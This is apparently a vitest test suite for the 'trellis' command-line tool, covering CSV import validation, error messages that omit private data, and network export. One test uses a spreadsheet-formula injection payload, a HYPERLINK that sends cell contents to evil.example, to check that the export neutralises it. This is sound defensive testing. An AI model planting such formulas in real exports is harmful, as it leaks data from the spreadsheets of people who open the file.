import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '@trellis/server';
import { sql } from 'drizzle-orm';
import { describeFailure, runCommand } from './run.js';

/** Runs a command in-process with captured output and an embedded database in a temporary folder. */
function makeRunner(dataDir: string) {
  return async (...argv: string[]) => {
    let stdout = '';
    let stderr = '';
    const code = await runCommand(argv, {
      stdout: (text) => (stdout += text),
      stderr: (text) => (stderr += text),
      env: { TRELLIS_DATA_DIR: dataDir },
    });
    return { code, stdout, stderr };
  };
}

describe('trellis', () => {
  let folder: string;
  let trellis: ReturnType<typeof makeRunner>;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'trellis-cli-'));
    trellis = makeRunner(join(folder, 'data'));
    // Migrating a new data folder is the slow part of a first command: done here, under the hook's
    // longer timeout. The export tests' network is made here too, so the data is never empty (the
    // demo refuses to overwrite it) whichever test runs first.
    await addNetwork('red-export');
  });

  /** Adds a network straight to the command's database (the CLI has no command for it). */
  async function addNetwork(slug: string) {
    const connection = await openDatabase({ dataDir: join(folder, 'data') });
    try {
      await connection.db.execute(
        sql`insert into networks (slug, name, kind, level, approach) values (${slug}, ${slug}, 'pln', 2, 'enabled')`,
      );
    } finally {
      await connection.close();
    }
  }
  afterAll(async () => {
    await rm(folder, { recursive: true, force: true });
  });

  it('prints help, and refuses unknown commands with exit code 2', async () => {
    const help = await trellis('help');
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('trellis <command>');
    const unknown = await trellis('frobnicate');
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('unknown command "frobnicate"');
  });

  it('exports a network’s ties as GraphML, GEXF or CSV, with names, and explains bad requests', async () => {
    const people = join(folder, 'people.csv');
    await writeFile(people, 'display_name,email\nRosa Prieto,rosa@example.org\nJuan Gil,juan@example.org\n');
    const ties = join(folder, 'ties.csv');
    await writeFile(
      ties,
      'network,from_email,to_email,to_outside_name,relation,weight\nred-export,rosa@example.org,juan@example.org,,advice,2\nred-export,juan@example.org,,Eva Sanz,trust,\n',
    );
    expect((await trellis('import', 'people', people)).code).toBe(0);
    expect((await trellis('import', 'ties', ties)).code).toBe(0);

    const out = join(folder, 'red.graphml');
    const exported = await trellis('export', 'network', 'red-export', '--format', 'graphml', '--out', out);
    expect(exported.stderr).toBe('');
    expect(exported.code).toBe(0);
    const graphml = await readFile(out, 'utf8');
    expect(graphml).toContain('edgedefault="directed"');
    expect(graphml).toContain('Rosa Prieto');
    expect(graphml).toContain('Eva Sanz');
    expect(graphml.match(/<edge /g)).toHaveLength(2);
    // Nothing has been analysed (no server ran): the file's measures are computed for it.
    expect(graphml).toContain('attr.name="betweenness"');
    const csv = join(folder, 'red.csv');
    expect(
      (await trellis('export', 'network', 'red-export', '--format', 'csv', '--table', 'nodes', '--out', csv))
        .code,
    ).toBe(0);
    expect((await readFile(csv, 'utf8')).split('\r\n')[0]).toBe(
      'id,kind,in_network,label,degree,betweenness,closeness,pagerank,clustering,core,constraint,effectiveSize,community,brokerageRole',
    );

    const missing = await trellis('export', 'network', 'no-such-network', '--out', out);
    expect(missing).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('no network has the slug or id "no-such-network"'),
    });
    expect((await trellis('export', 'network', 'red-export', '--format', 'pdf', '--out', out)).code).toBe(2);
    expect((await trellis('export', 'network', 'red-export', '--wave', 'last', '--out', out)).code).toBe(2);
    expect((await trellis('export', 'network', 'red-export')).code).toBe(2);
  });

  it('imports a CSV file, and rejects a bad one whole with row and column', async () => {
    const good = join(folder, 'organisations.csv');
    await writeFile(
      good,
      'name,kind,country,region,municipality,stages,sector,rural,disadvantaged,size_band,national_code\n' +
        'CEIP Las Eras,school,ES,Valdemar,Alba,primary,public,true,false,m,99000001\n',
    );
    const imported = await trellis('import', 'organisations', good);
    expect(imported.stderr).toBe('');
    expect(imported.code).toBe(0);
    expect(imported.stdout).toContain('1 created');

    const bad = join(folder, 'bad.csv');
    await writeFile(
      bad,
      'name,kind,country,region,municipality,stages,sector,rural,disadvantaged,size_band,national_code\n' +
        'CEIP Nueva,school,ES,Valdemar,Alba,primary,public,true,false,m,99000002\n' +
        'IES Otra,castle,ES,Valdemar,Alba,,public,maybe,false,m,99000003\n',
    );
    const rejected = await trellis('import', 'organisations', bad);
    expect(rejected.code).toBe(1);
    expect(rejected.stderr).toContain('nothing was written');
    expect(rejected.stderr).toMatch(/row 3, column "kind"/);
    expect(rejected.stderr).toMatch(/row 3, column "rural"/);
    const again = await trellis('import', 'organisations', good);
    expect(again.stdout).toContain('0 created, 1 updated');
  });

  it('explains usage mistakes and unreadable files', async () => {
    expect((await trellis('import')).code).toBe(2);
    const wrongKind = await trellis('import', 'castles', 'x.csv');
    expect(wrongKind.code).toBe(2);
    expect(wrongKind.stderr).toContain('choose one of organisations, people, memberships');
    const missing = await trellis('import', 'people', join(folder, 'missing.csv'));
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('ENOENT');
  });

  /** Runs SQL on the command's database between commands (the CLI holds it only while it runs). */
  async function withDatabase<T>(
    work: (db: Awaited<ReturnType<typeof openDatabase>>['db']) => Promise<T>,
  ): Promise<T> {
    const connection = await openDatabase({ dataDir: join(folder, 'data') });
    try {
      return await work(connection.db);
    } finally {
      await connection.close();
    }
  }
  const countMarked = () =>
    withDatabase(async (db) => {
      const result = (await db.execute(
        sql`select count(*)::int as count from people where display_name ilike '%marker%'`,
      )) as unknown as { rows: { count: number }[] };
      return result.rows[0]!.count;
    });
  const PEOPLE =
    'display_name,email,expertise\nMarkerAlba Muñoz,marker.alba@example.org,reading\nMarkerBruno Peña,marker.bruno@example.org,maths\n';

  it('refuses a Latin-1 file, naming its encoding, the line and how to re-save it, and writes nothing', async () => {
    const file = join(folder, 'latin1.csv');
    await writeFile(file, Buffer.from(PEOPLE, 'latin1'));
    const refused = await trellis('import', 'people', file);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('was not imported; nothing was written');
    expect(refused.stderr).toMatch(
      /row 2: The file is not UTF-8 text: this line has the byte 0xF1.*Windows-1252 or ISO-8859-1 \(Latin-1\)/,
    );
    expect(refused.stderr).toContain('"CSV UTF-8 (Comma delimited)"');
    expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker/i);
    expect(await countMarked()).toBe(0);
  });

  it('refuses UTF-16 with a byte-order mark or without, naming it, instead of reading "d i s p l a y"', async () => {
    const withBom = join(folder, 'utf16-bom.csv');
    const withoutBom = join(folder, 'utf16.csv');
    await writeFile(withBom, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(PEOPLE, 'utf16le')]));
    await writeFile(withoutBom, Buffer.from(PEOPLE, 'utf16le'));
    for (const file of [withBom, withoutBom]) {
      const refused = await trellis('import', 'people', file);
      expect(refused.code).toBe(1);
      expect(refused.stderr).toContain('UTF-16 (little-endian)');
      expect(refused.stderr).not.toContain('Unknown column');
      expect(refused.stderr).not.toMatch(/marker/i);
    }
    expect(await countMarked()).toBe(0);
  });

  it('imports UTF-8 with a byte-order mark, as Excel\'s "CSV UTF-8" writes it', async () => {
    const file = join(folder, 'utf8-bom.csv');
    await writeFile(
      file,
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(PEOPLE.replaceAll('Marker', 'Bom'))]),
    );
    const imported = await trellis('import', 'people', file);
    expect(imported).toMatchObject({ code: 0, stderr: '' });
    expect(imported.stdout).toContain('2 created');
  });

  it("refuses a NUL byte by row and column without printing anyone's name or email", async () => {
    const file = join(folder, 'nul.csv');
    await writeFile(file, `${PEOPLE}MarkerCarla Paz,marker.carla@example.org,art\0s\n`);
    const refused = await trellis('import', 'people', file);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('row 4, column "expertise": This cell holds a NUL character');
    expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker/i);
    expect(await countMarked()).toBe(0);
  });

  it('prints a database failure without the statement or its parameters, and writes nothing', async () => {
    await withDatabase((db) =>
      db.execute(
        sql`alter table people add constraint cli_test_refuses check (display_name not like 'MarkerBruno%')`,
      ),
    );
    try {
      const file = join(folder, 'refused.csv');
      await writeFile(file, PEOPLE);
      const refused = await trellis('import', 'people', file);
      expect(refused.code).toBe(1);
      expect(refused.stderr).toContain('nothing was written');
      expect(refused.stderr).toContain(
        'PostgreSQL error 23514 (a value breaks a check constraint: table "people", constraint "cli_test_refuses")',
      );
      expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker|insert into/i);
      expect(await countMarked()).toBe(0);
    } finally {
      await withDatabase((db) => db.execute(sql`alter table people drop constraint cli_test_refuses`));
    }
  });

  it('describes any failure without the data in it, and never as [object Object]', async () => {
    const failed = await withDatabase((db) =>
      db.execute(sql`select ${'MarkerSecret'}::uuid`).then(
        () => null,
        (error: unknown) => error,
      ),
    );
    // Drizzle's own message lists the parameter, and PostgreSQL's quotes it.
    expect(String(failed)).toContain('MarkerSecret');
    expect(describeFailure(failed)).toBe(
      'the database refused a statement: PostgreSQL error 22P02 (a value of the wrong type).',
    );
    expect(describeFailure({ code: 'ELOOP', errno: -40 })).toBe('failed with ELOOP');
    expect(describeFailure({})).toBe('failed unexpectedly');
    expect(describeFailure(new Error('TRELLIS_PUBLIC_URL must be a URL'))).toBe(
      'TRELLIS_PUBLIC_URL must be a URL',
    );
  });

  it('exports names that are spreadsheet formulas as text, quoted and with a quote in front', async () => {
    const people = join(folder, 'formula-people.csv');
    await writeFile(
      people,
      'display_name,email\n"=HYPERLINK(""http://evil.example/?""&A1,""Ver"")",formula1@example.org\n@SUM(1),formula2@example.org\n',
    );
    const ties = join(folder, 'formula-ties.csv');
    await addNetwork('red-formulas');
    await writeFile(
      ties,
      'network,from_email,to_email,relation\nred-formulas,formula1@example.org,formula2@example.org,advice\n',
    );
    expect((await trellis('import', 'people', people)).code).toBe(0);
    expect((await trellis('import', 'ties', ties)).code).toBe(0);
    const out = join(folder, 'formula-nodes.csv');
    expect(
      (
        await trellis(
          'export',
          'network',
          'red-formulas',
          '--format',
          'csv',
          '--table',
          'nodes',
          '--out',
          out,
        )
      ).code,
    ).toBe(0);
    const text = await readFile(out, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`);
    expect(text).toContain(`"'@SUM(1)"`);
    // No cell, quoted or not, starts with a formula character (nor does a measure: none is negative).
    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it('exports the bank as CSV that imports back, drafts left out, formulas neutralised', async () => {
    const people = join(folder, 'bank-people.csv');
    await writeFile(people, 'display_name,email\nAutora del banco,autora.banco@example.org\n');
    expect((await trellis('import', 'people', people)).code).toBe(0);
    const bank = join(folder, 'bank-in.csv');
    await writeFile(
      bank,
      'title,summary,language,type,stage,subject,tags,licence,body,network,author_email,visibility\n' +
        'Tertulias dialógicas,Leer clásicos en voz alta,es,lesson,primary;secondary,Lengua,lectura,CC-BY-4.0,"## Cómo\n\nEn círculo",red-export,autora.banco@example.org,network\n' +
        '=HYPERLINK(1),Formula title,en,card,adult,,,CC0-1.0,,,,public\n' +
        'Borrador privado,,es,plan,all,,,CC-BY-4.0,,,autora.banco@example.org,draft\n',
    );
    expect(await trellis('import', 'resources', bank)).toMatchObject({ code: 0 });
    const out = join(folder, 'bank-out.csv');
    const exported = await trellis('export', 'resources', '--out', out);
    expect(exported).toMatchObject({ code: 0 });
    expect(exported.stdout).toMatch(/^Exported \d+ resources to /);
    const text = await readFile(out, 'utf8');
    const lines = text.split('\r\n');
    expect(lines[0]).toBe(
      'title,summary,language,type,stage,subject,tags,licence,body,network,author_email,visibility',
    );
    expect(text).toContain(
      'Tertulias dialógicas,Leer clásicos en voz alta,es,lesson,primary;secondary,Lengua,reading,CC-BY-4.0,',
    );
    expect(text).toContain('red-export,autora.banco@example.org,network');
    expect(text).toContain(`"'=HYPERLINK(1)"`);
    expect(text).not.toContain('Borrador privado');
    // What it wrote imports back as it stands.
    expect((await trellis('import', 'resources', out)).code).toBe(0);
  });

  it('refuses to overwrite data with the demo region unless forced', async () => {
    const refused = await trellis('demo');
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('--force');
  });
});
